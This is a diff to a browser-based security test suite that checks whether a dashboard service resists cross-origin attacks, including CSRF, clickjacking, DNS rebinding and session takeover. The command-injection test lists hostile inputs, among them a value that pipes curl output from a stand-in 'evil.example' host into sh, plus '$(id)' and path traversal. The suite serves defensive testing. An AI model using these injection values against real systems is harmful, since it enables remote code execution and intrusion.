@@ -16,7 +16,7 @@ import { openBrowser, openTab, signIn, type Tab } from './browser.ts';
 const base = 'updates.example.test';
 const sibling = 'evil.example.test';
 
-describe('a page of others', () => {
+describe('a page of another origin', () => {
   let browser: Browser;
   let service: Service;
   let evil: Server;
@@ -54,7 +54,7 @@ describe('a page of others', () => {
     return page;
   };
 
-  test('changes nothing by a form or a request that carries the cookie', async () => {
+  test('changes nothing with a form or a request that sends the cookie (CSRF)', async () => {
     const page = await visitEvil();
     await page.evaluate(async (url) => {
       const body = JSON.stringify({ slug: 'planted' });
@@ -82,24 +82,24 @@ describe('a page of others', () => {
     await page.close();
   });
 
-  test('reads nothing', async () => {
+  test('reads nothing (CORS)', async () => {
     const page = await visitEvil();
     const read = await page.evaluate(async (url) => {
-      const asked = ['/v1/session', '/v1/apps', '/'].map((path) =>
+      const responses = ['/v1/session', '/v1/apps', '/'].map((path) =>
         fetch(url + path, { credentials: 'include' }).then(
           (answer) => answer.text(),
           () => 'refused',
         ),
       );
-      return Promise.all(asked);
+      return Promise.all(responses);
     }, service.baseUrl);
     assert.deepEqual(read, ['refused', 'refused', 'refused']);
     await page.close();
   });
 
-  test('signs nobody in with a key of its own', async () => {
-    const stranger = await openTab(browser, service);
-    const page = await stranger.context.newPage();
+  test('cannot sign a user in with its own key (login CSRF)', async () => {
+    const signedOutTab = await openTab(browser, service);
+    const page = await signedOutTab.context.newPage();
     await page.goto(evilUrl);
     const outcome = await page.evaluate(
       ({ url, key }) =>
@@ -114,11 +114,11 @@ describe('a page of others', () => {
       { url: service.baseUrl, key: adminKey },
     );
     assert.equal(outcome, 'refused');
-    assert.deepEqual(await stranger.context.cookies(), []);
-    await stranger.context.close();
+    assert.deepEqual(await signedOutTab.context.cookies(), []);
+    await signedOutTab.context.close();
   });
 
-  test('takes nobody over with a cookie that it plants', async () => {
+  test('cannot take over a session with a planted cookie', async () => {
     const victim = await openTab(browser, service);
     await signIn(victim);
     const [own] = await victim.context.cookies();
@@ -136,7 +136,7 @@ describe('a page of others', () => {
     await victim.context.close();
   });
 
-  test('shows the dashboard in no frame', async () => {
+  test('cannot embed the dashboard in a frame (clickjacking)', async () => {
     const page = await visitEvil();
     await page.evaluate(async (url) => {
       const frame = Object.assign(document.createElement('iframe'), { src: `${url}/apps` });
@@ -149,7 +149,7 @@ describe('a page of others', () => {
     await page.close();
   });
 
-  test('is no dashboard under a name that was pointed here', async () => {
+  test('gets no dashboard under another host name (DNS rebinding)', async () => {
     const page = await tab.context.newPage();
     const port = new URL(service.baseUrl).port;
     for (const host of ['rebound.test', `nobody.${base}`, '127.0.0.1', 'localhost'])
@@ -157,7 +157,7 @@ describe('a page of others', () => {
     await page.close();
   });
 
-  test('puts no command of its own among those that the dashboard shows', async () => {
+  test('cannot inject commands into those that the dashboard shows', async () => {
     const page = await tab.context.newPage();
     for (const name of ['x;curl%20evil.example%7Csh', '$(id)', '..%2F..%2Fdocs', 'A%0Aid']) {
       await page.goto(`${service.baseUrl}/apps/${name}/new`);
@@ -167,7 +167,7 @@ describe('a page of others', () => {
     await page.close();
   });
 
-  test('leaves the one who is signed in where they were', async () => {
+  test('leaves the user signed in', async () => {
     await tab.page.reload();
     await tab.page.getByRole('heading', { name: 'Make your first app' }).waitFor();
     // Browsers ignore COOP on plain HTTP other than localhost and log a warning; all other faults count.
